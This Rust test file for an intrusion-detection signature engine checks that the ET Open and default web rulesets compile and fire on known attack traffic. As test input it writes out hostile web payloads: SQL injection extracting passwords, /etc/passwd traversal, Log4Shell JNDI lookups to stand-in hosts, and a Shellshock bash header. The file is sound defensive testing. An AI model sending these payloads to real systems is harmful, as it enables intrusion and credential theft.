//! The engine over the real-world corpus: all of ET Open (2024-04) compiles,
//! the engine's own rejections are reported by reason and stay rare, and
//! random buffers at every kind of inspection point never panic it (with
//! ET Open, and with Vigil's default ruleset, which must compile whole and
//! catch the attacks it is written for).

use std::net::IpAddr;
use std::path::PathBuf;
use std::sync::{Mutex, OnceLock};
use std::time::Instant;

use proptest::prelude::*;
use vigil_event::{ConnectionInfo, Endpoint, Timestamp};
use vigil_net::app::{AppProto, Direction, FlowMeta};
use vigil_net::inspect::{Buffer, InspectCtx, PayloadInspector};
use vigil_sig::engine::SignatureEngine;
use vigil_sig::load::load_files;
use vigil_sig::vars::Vars;

fn et_files() -> Option<Vec<PathBuf>> {
    let dir = vigil_testkit::require_shared_data("et-open-2024-04")?;
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .ok()?
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|e| e == "rules"))
        .collect();
    files.sort();
    Some(files)
}

/// ET Open compiled once for the tests of this file.
fn et_engine() -> Option<&'static Mutex<SignatureEngine>> {
    static ENGINE: OnceLock<Option<Mutex<SignatureEngine>>> = OnceLock::new();
    ENGINE
        .get_or_init(|| {
            let files = et_files()?;
            let (rules, _) = load_files(&files, &Vars::default()).ok()?;
            let (engine, _) = SignatureEngine::compile(rules);
            Some(Mutex::new(engine))
        })
        .as_ref()
}

fn default_rules() -> Vec<vigil_sig::rule::Rule> {
    let path = PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../rules/vigil-web.rules"
    ));
    let (rules, summary) = load_files(&[path], &Vars::default()).expect("default ruleset loads");
    assert_eq!(summary.skipped_total(), 0, "default ruleset fully accepted");
    rules
}

/// The default ruleset compiled once.
fn default_engine() -> &'static Mutex<SignatureEngine> {
    static ENGINE: OnceLock<Mutex<SignatureEngine>> = OnceLock::new();
    ENGINE.get_or_init(|| Mutex::new(SignatureEngine::compile(default_rules()).0))
}

#[test]
fn default_ruleset_compiles_whole_and_catches_web_attacks() {
    let rules = default_rules();
    let n = rules.len();
    let (mut engine, summary) = SignatureEngine::compile(rules);
    print!("{summary}");
    assert_eq!(summary.compiled, n, "{summary}");
    let f = flow(true);
    let ctx = InspectCtx {
        flow: &f,
        dir: Direction::ToResponder,
        to_server: true,
        established: true,
        app: Some(AppProto::Http),
        ip_protocol: 6,
        ts: Timestamp::from_nanos(1),
        packet: 1,
        stream_offset: 0,
        payload_encrypted: false,
    };
    let attacks: [&[u8]; 4] = [
        b"/item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
        b"/download?file=../../../../etc/passwd",
        b"/?x=${jndi:ldap://evil.example/a}",
        b"/cgi-bin/status",
    ];
    let headers: [&[u8]; 4] = [
        b"Host: a\r\n",
        b"Host: a\r\n",
        b"Host: a\r\n",
        b"Host: a\r\nUser-Agent: () { :; }; /bin/bash -c 'id'\r\n",
    ];
    for (uri, hdr) in attacks.iter().zip(headers) {
        let mut out = Vec::new();
        let ua: &[u8] = if hdr.len() > 12 {
            b"() { :; }; /bin/bash -c 'id'"
        } else {
            b"curl/8.5.0"
        };
        engine.inspect(
            &ctx,
            &[
                (Buffer::HttpMethod, b"GET"),
                (Buffer::HttpUri, uri),
                (Buffer::HttpRawUri, uri),
                (Buffer::HttpHost, b"a"),
                (Buffer::HttpUserAgent, ua),
                (Buffer::HttpHeader, hdr),
            ],
            &mut out,
        );
        assert!(
            !out.is_empty(),
            "no alert for {}",
            String::from_utf8_lossy(uri)
        );
    }
    let mut out = Vec::new();
    engine.inspect(
        &ctx,
        &[
            (Buffer::HttpMethod, b"GET"),
            (Buffer::HttpUri, b"/index.html"),
            (Buffer::HttpHost, b"a"),
            (Buffer::HttpUserAgent, b"curl/8.5.0"),
            (Buffer::HttpHeader, b"Host: a\r\nUser-Agent: curl/8.5.0\r\n"),
        ],
        &mut out,
    );
    assert!(out.is_empty(), "benign request alerted: {out:?}");
}

#[test]
fn et_open_compiles_with_few_engine_rejections() {
    let Some(files) = et_files() else { return };
    let started = Instant::now();
    let (rules, load) = load_files(&files, &Vars::default()).expect("ruleset loads");
    let load_time = started.elapsed();
    let n = rules.len();
    let (engine, summary) = SignatureEngine::compile(rules);
    println!(
        "et-open: {} rules accepted by the loader in {load_time:?}",
        load.accepted()
    );
    print!("{summary}");
    // Up to three examples of each reason.
    let mut shown: std::collections::HashMap<&str, usize> = std::collections::HashMap::new();
    for (gid, sid, reason) in &summary.rejected_rules {
        let key = reason.split(':').next().unwrap_or(reason);
        let n = shown.entry(key).or_default();
        *n += 1;
        if *n <= 3 {
            println!(
                "  e.g. {gid}:{sid}: {}",
                reason.chars().take(240).collect::<String>()
            );
        }
    }
    assert_eq!(summary.rules_in, n);
    assert_eq!(
        summary.compiled + summary.rejected.values().sum::<usize>(),
        n
    );
    assert_eq!(engine.rule_count(), summary.compiled);
    assert_eq!(
        summary.prefiltered + summary.always + summary.header_only + summary.ip_only,
        summary.compiled
    );
    // The engine rejects at most 1% of what the parser accepted.
    assert!(
        summary.compiled * 100 >= n * 99,
        "engine rejected {} of {n}",
        n - summary.compiled
    );
    // Most rules go through the prefilter; the always-evaluated list is small.
    assert!(
        summary.always * 100 <= summary.compiled,
        "always-evaluated: {}",
        summary.always
    );
}

/// A to_server point of `f` once its protocol is known.
fn point(f: &FlowMeta, app: AppProto, offset: u64) -> InspectCtx<'_> {
    InspectCtx {
        flow: f,
        dir: Direction::ToResponder,
        to_server: true,
        established: true,
        app: Some(app),
        ip_protocol: f.connection_info.protocol_num,
        ts: Timestamp::from_nanos(1_700_000_000_000_000_000),
        packet: 1,
        stream_offset: offset,
        payload_encrypted: false,
    }
}

/// Known ET Open rules fire on the traffic they describe, at the kind of
/// inspection point the pipeline hands over, and not on a benign variant.
#[test]
fn et_open_rules_fire_on_their_traffic() {
    let Some(engine) = et_engine() else { return };
    let mut engine = engine.lock().unwrap_or_else(|e| e.into_inner());
    let mut tcp = flow(true);
    tcp.connection_info.uid = "Cknown".to_owned();
    let mut udp = flow(false);
    udp.connection_info.uid = "Cknown-dns".to_owned();
    let sids = |out: &[vigil_event::Event]| -> Vec<u32> {
        out.iter()
            .filter_map(|e| match &e.body {
                vigil_event::Body::Finding(f) => f.rule.as_ref().map(|r| r.sid),
                _ => None,
            })
            .collect()
    };
    let (tcp, udp) = (&tcp, &udp);
    // (point, buffers, expected sid or 0 for "some alert").
    type Case<'a> = (InspectCtx<'a>, Vec<(Buffer, &'a [u8])>, u32);
    let cases: [Case<'_>; 4] = [
        // Log4Shell in the raw stream of an HTTP flow (payload rule).
        (
            point(tcp, AppProto::Http, 0),
            vec![(
                Buffer::Stream,
                b"GET /?q=${JNDI:ldap://198.51.100.7/a} HTTP/1.1\r\nHost: x\r\n\r\n",
            )],
            2034647,
        ),
        // A user agent (depth, isdataat:!1,relative).
        (
            point(tcp, AppProto::Http, 0),
            vec![(Buffer::HttpUserAgent, b"MSDW")],
            2027389,
        ),
        // A DNS query name (nocase, endswith).
        (
            point(udp, AppProto::Dns, 0),
            vec![(Buffer::DnsQuery, b"x.AppsDown.urbanvillager.xyz")],
            2029107,
        ),
        // A TLS SNI (endswith).
        (
            point(tcp, AppProto::Tls, 0),
            vec![(Buffer::TlsSni, b"cdn.maraukog.info")],
            0,
        ),
    ];
    for (ctx, bufs, sid) in &cases {
        let mut out = Vec::new();
        engine.inspect(ctx, bufs, &mut out);
        let got = sids(&out);
        if *sid != 0 {
            assert!(got.contains(sid), "expected sid {sid}, got {got:?}");
        } else {
            assert!(!got.is_empty(), "expected an alert for {bufs:?}");
        }
    }
    // Benign look-alikes: no alert from those rules.
    let mut out = Vec::new();
    engine.inspect(
        &point(tcp, AppProto::Http, 100),
        &[(Buffer::HttpUserAgent, b"MSDWX")],
        &mut out,
    );
    assert!(!sids(&out).contains(&2027389));
    engine.inspect(
        &point(udp, AppProto::Dns, 0),
        &[(Buffer::DnsQuery, b"urbanvillager.xyz.example")],
        &mut out,
    );
    assert!(!sids(&out).contains(&2029107));
    engine.flow_end("Cknown");
    engine.flow_end("Cknown-dns");
}

fn flow(tcp: bool) -> FlowMeta {
    let ip = |s: &str| s.parse::<IpAddr>().expect("ip");
    FlowMeta {
        originator: Endpoint::new(ip("10.0.0.1"), 40000),
        responder: Endpoint::new(ip("192.0.2.80"), if tcp { 80 } else { 53 }),
        connection_info: ConnectionInfo {
            uid: "Cprop".to_owned(),
            community_uid: "1:x".to_owned(),
            protocol_num: if tcp { 6 } else { 17 },
            protocol_name: if tcp { "tcp" } else { "udp" }.to_owned(),
        },
    }
}

const KINDS: &[Buffer] = &[
    Buffer::Packet,
    Buffer::Stream,
    Buffer::HttpMethod,
    Buffer::HttpUri,
    Buffer::HttpRawUri,
    Buffer::HttpHost,
    Buffer::HttpUserAgent,
    Buffer::HttpHeader,
    Buffer::HttpRequestBody,
    Buffer::HttpStatCode,
    Buffer::HttpResponseHeader,
    Buffer::FileData,
    Buffer::DnsQuery,
    Buffer::TlsSni,
    Buffer::TlsCertSubject,
    Buffer::TlsCertIssuer,
    Buffer::Ja3Hash,
    Buffer::Ja3String,
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn random_buffers_never_panic_default_ruleset(
        bufs in proptest::collection::vec((0..KINDS.len(), proptest::collection::vec(any::<u8>(), 0..600)), 1..5),
        to_client in any::<bool>(),
        offset in 0u64..5000,
    ) {
        let mut engine = default_engine().lock().unwrap_or_else(|e| e.into_inner());
        let f = flow(true);
        let ctx = InspectCtx {
            flow: &f,
            dir: if to_client { Direction::ToOriginator } else { Direction::ToResponder },
            to_server: !to_client,
            established: true,
            app: Some(AppProto::Http),
            ip_protocol: 6,
            ts: Timestamp::from_nanos(offset as i64),
            packet: offset,
            stream_offset: offset,
            payload_encrypted: false,
        };
        let mut seen = Vec::new();
        let mut slices: Vec<(Buffer, &[u8])> = Vec::new();
        for (k, data) in &bufs {
            if !seen.contains(k) {
                seen.push(*k);
                slices.push((KINDS[*k], data.as_slice()));
            }
        }
        let mut out = Vec::new();
        engine.inspect(&ctx, &slices, &mut out);
        for ev in &out {
            prop_assert_eq!(ev.class_uid, 2004);
        }
    }

    #[test]
    fn random_buffers_never_panic_et_open(
        bufs in proptest::collection::vec((0..KINDS.len(), proptest::collection::vec(any::<u8>(), 0..600)), 1..5),
        tcp in any::<bool>(),
        to_client in any::<bool>(),
        app in 0u8..4,
        offset in 0u64..5000,
    ) {
        let Some(engine) = et_engine() else { return Ok(()) };
        let mut engine = engine.lock().unwrap_or_else(|e| e.into_inner());
        let f = flow(tcp);
        let ctx = InspectCtx {
            flow: &f,
            dir: if to_client { Direction::ToOriginator } else { Direction::ToResponder },
            to_server: !to_client,
            established: true,
            app: [None, Some(AppProto::Http), Some(AppProto::Dns), Some(AppProto::Tls)][usize::from(app)],
            ip_protocol: f.connection_info.protocol_num,
            ts: Timestamp::from_nanos(offset as i64 * 1_000_000),
            packet: offset,
            stream_offset: offset,
            payload_encrypted: false,
        };
        let mut seen = Vec::new();
        let mut slices: Vec<(Buffer, &[u8])> = Vec::new();
        for (k, data) in &bufs {
            let kind = KINDS[*k];
            if !seen.contains(&kind) {
                seen.push(kind);
                slices.push((kind, data.as_slice()));
            }
        }
        let mut out = Vec::new();
        engine.inspect(&ctx, &slices, &mut out);
        for ev in &out {
            prop_assert_eq!(ev.class_uid, 2004);
        }
        if offset % 7 == 0 {
            engine.flow_end("Cprop");
        }
    }
}
